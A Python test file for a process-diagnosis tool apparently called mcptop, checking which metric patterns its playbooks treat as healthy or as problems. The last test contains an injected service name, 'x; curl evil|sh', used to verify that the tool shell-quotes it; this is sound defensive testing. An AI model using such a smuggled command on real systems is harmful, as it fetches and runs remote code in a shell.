"""What healthy programs look like that the demo does not have: none of it is a finding. And what stays one."""

from __future__ import annotations

from typing import Any

import pytest

from mcptop.model.diagnosis import Evidence, Outcome, Run, StepStatus, Subject, Verdict
from mcptop.playbook import shelf
from mcptop.playbook.judge import judge

TARGET = Subject("process", "shop", "api", "api-1", pid=70, pids=(70,), python=True, replicas=1)
CALM = {"cpu": {"mean": 0.02, "low": 0.0, "high": 0.05, "steady": 0.2, "system_share": 0.1}, "uptime_s": 90000.0}
STANDS = {"stuck": {"threads": 4, "lock_waiters": 0, "locks": 0}, "idle_workers": 0, "working": 4.0, "active": 0.0,
          "loop": {"seen": False}, "leaf": {"resolve": 0.0}, "gc": 0.0,
          "same": {"threads": 4, "share": 1.0, "lock_waiters": 0, "where": "poll() in a.py:9"}}  # fmt: skip
THREADS = {"seconds": 12.0, "count": 9, "cores": 0.02, "busy": 0, "demand": 0.03, "fsync_share": 0.0, "on_disk": 0.0,
           "delay_ratio": 0.3, "slices_per_s": 40.0,
           "top": {"name": "a", "tid": 7, "demand": 0.03, "steady": 0.1, "share": 0.5, "is_main": True}}  # fmt: skip
HOST = {"cpu_ratio": 0.1, "cpus": 4, "pressure": {"io": 0.02}, "disk": {"busy_ratio": 0.1},
        "own": {"cores": 0.02, "disk_bytes_per_s": 0.0}, "neighbour": {"service": "db", "cores": 0.2},
        "disk_waiter": {"service": "db", "share": 0.0},
        "disk_neighbour": {"service": "db", "bytes_per_s": 9e6}}  # fmt: skip
NET = {"seconds": 3.0, "shared": False, "opened_per_s": 0.5, "new_per_s": 0.5, "peer": "db:5432", "peer_time_wait": 2,
       "time_wait": 2, "time_wait_growth": 0, "retransmit_ratio": 0.0, "segments_per_s": 300.0, "overflows": 0,
       "syn_sent": 0, "established": 4}  # fmt: skip
RISES = {"rising": True, "growing": True, "flat": False, "levelling_off": False, "sawtooth": False, "step": False,
         "floors_rising": 9, "floors": 9, "late_ratio": 1.0, "slope_per_s": 3e5, "change": 12e6, "first": 50e6,
         "last": 62e6}  # fmt: skip
FLAT = {**RISES, "rising": False, "growing": False, "flat": True, "slope_per_s": 0.0, "change": 0.0}


def verdict(playbook: str, target: Subject = TARGET, **values: Any) -> Verdict:
    """Of the shipped playbook on this evidence; its other steps found nothing out."""
    chosen = shelf.find(playbook).playbook()
    steps = {step.id: values.get(step.id) for step in chosen.steps} | values
    evidence = [
        Evidence(id, id, StepStatus.OK if found else StepStatus.NO_DATA, "" if found else "nothing", values=found or {})
        for id, found in steps.items()
    ]
    return judge(chosen, target, evidence, Run("2026-01-31T12:00:00Z", 12.0))


@pytest.mark.parametrize(
    ("playbook", "values"),
    [
        # Four consumers in poll(), or four timers asleep: at one place, and nobody waits for them.
        ("slow-service", {"stacks": STANDS, "threads": THREADS, "watch": CALM, "host": HOST, "net": NET}),
        ("connection-pool", {"stacks": STANDS, "threads": THREADS, "watch": CALM}),
        # A database beside it forces data to disk all the time; this one uses no disk.
        ("io-bottleneck", {"threads": THREADS, "watch": CALM,
                           "host": {**HOST, "disk_waiter": {"service": "db", "share": 0.25}}}),
        # It calls a service that everybody calls.
        ("network", {"net": NET, "metrics": {"requests_per_s": 1.0, "errors_ratio": 0.0, "amplification": 100.0,
                                             "peer": {"service": "auth", "requests_per_s": 100.0}}}),
        # It answers nobody, and asks once a minute.
        ("network", {"net": {**NET, "opened_per_s": 4.0}, "metrics": {"requests_per_s": 0.0, "errors_ratio": None}}),
        # A single segment of twenty was sent again.
        ("network", {"net": {**NET, "segments_per_s": 7.0, "retransmit_ratio": 0.05}}),
        # It has started a minute ago, and loads.
        ("memory-leak", {"watch": {**CALM, "uptime_s": 45.0, "anon": RISES, "threads": FLAT, "fds": FLAT}}),
        ("fd-leak", {"watch": {**CALM, "uptime_s": 20.0, "threads": RISES, "fds": FLAT}}),
        # A cache that is full, as caches are.
        ("slow-service", {"metrics": {"requests_per_s": 50.0, "evictions_per_s": 3.0, "hit_ratio": 0.94},
                          "watch": CALM, "threads": THREADS}),
        # A temporary file, or a log of transactions that the server will reuse.
        ("io-bottleneck", {"files": {"deleted": 1, "deleted_size_bytes": 16 << 20, "deleted_path": "/var/lib/db/wal/1",
                                     "writer": {"deleted": False, "bytes_per_s": 0.0}}, "threads": THREADS}),
    ],
)  # fmt: skip
def test_is_no_finding(playbook: str, values: dict[str, Any]) -> None:
    found = verdict(playbook, **values)
    assert found.status not in (Outcome.WARNING, Outcome.PROBLEM), (found.mechanism, found.confidence, found.says)


def test_a_native_server_with_much_to_do_is_not_in_a_loop() -> None:
    redis = Subject("process", None, "redis", "redis", pid=70, pids=(70,), python=False, replicas=1)
    busy = {"cpu": {"mean": 0.9, "low": 0.85, "high": 0.95, "steady": 0.9, "system_share": 0.3}, "uptime_s": 9e4}
    threads = {**THREADS, "cores": 0.9, "busy": 1, "demand": 0.92,
               "top": {"name": "redis", "tid": 70, "demand": 0.91, "steady": 0.95, "share": 0.99,
                       "is_main": True}}  # fmt: skip
    found = verdict("cpu-load", redis, watch=busy, threads=threads, host={**HOST, "cpu_ratio": 0.3})
    assert found.status is Outcome.HEALTHY, (found.mechanism, found.says)
    spins = {**threads, "demand": 1.0, "top": {**threads["top"], "demand": 1.0, "steady": 1.0}}
    full = {**busy, "cpu": {**busy["cpu"], "mean": 1.0, "low": 0.99, "high": 1.0, "steady": 0.99}}
    found = verdict("cpu-load", redis, watch=full, threads=spins, host={**HOST, "cpu_ratio": 0.3})
    assert (found.status, found.mechanism) == (Outcome.WARNING, "cpu-hot-loop")


def test_threads_that_stand_and_callers_that_wait_are_a_pool_that_is_used_up() -> None:
    values = {"stacks": STANDS, "threads": THREADS, "watch": CALM, "host": HOST, "net": NET}
    found = verdict("slow-service", **values, flows={"queue": {"name": "jobs", "depth": 12}})
    assert (found.mechanism, found.status) == ("thread-pool-exhausted", Outcome.PROBLEM)
    reasons = next(each.supports for each in found.hypotheses if each.mechanism == found.mechanism)
    assert "somebody waits: 12 in queue jobs, no thread comes back" in [argument.because for argument in reasons]


def test_many_requests_behind_one_that_fail_are_a_storm() -> None:
    metrics = {"requests_per_s": 1.0, "errors_ratio": 0.6, "amplification": 8.0, "peer": {"service": "auth"}}
    assert verdict("network", net=NET, metrics=metrics).mechanism == "retry-storm"


def test_requests_that_fail_are_never_healthy() -> None:
    values = {"stacks": {**STANDS, "same": {"threads": 0, "lock_waiters": 0}}, "threads": THREADS, "watch": CALM}
    failing = {
        "requests_per_s": 10.0,
        "errors_ratio": 0.25,
        "evictions_per_s": 0.0,
        "hit_ratio": 0.9,
        "latency_s": 0.05,
    }
    found = verdict("slow-service", **values, metrics=failing, logs={"last_error": "ERROR model too large"})
    assert (found.mechanism, found.status) == ("requests-fail", Outcome.WARNING)
    assert found.says == "25% of its requests fail, whatever the time they take; its log says: ERROR model too large"
    fine = verdict("slow-service", **values, metrics={**failing, "errors_ratio": 0.01})
    assert fine.mechanism is None


def test_a_name_that_is_a_command_is_quoted_in_what_to_do() -> None:
    flows = {"down": {"busy_share": 0.9, "longest_s": 3.0, "service": "x"}, "pool": {"kind": "tcp"},
             "chain": {"end": "x; curl evil|sh", "end_longest_s": 3.0, "length": 1, "end_cores": 0.1,
                       "end_waiting": 2}}  # fmt: skip
    stacks = {**STANDS, "same": {"threads": 0, "lock_waiters": 0}, "loop": {"seen": True, "busy_share": 0.1}}
    found = verdict("slow-service", flows=flows, stacks=stacks, threads=THREADS, watch=CALM, metrics={"latency_s": 3.0})
    assert found.mechanism == "slow-downstream", found.says
    assert "--service 'x; curl evil|sh'" in found.do.now
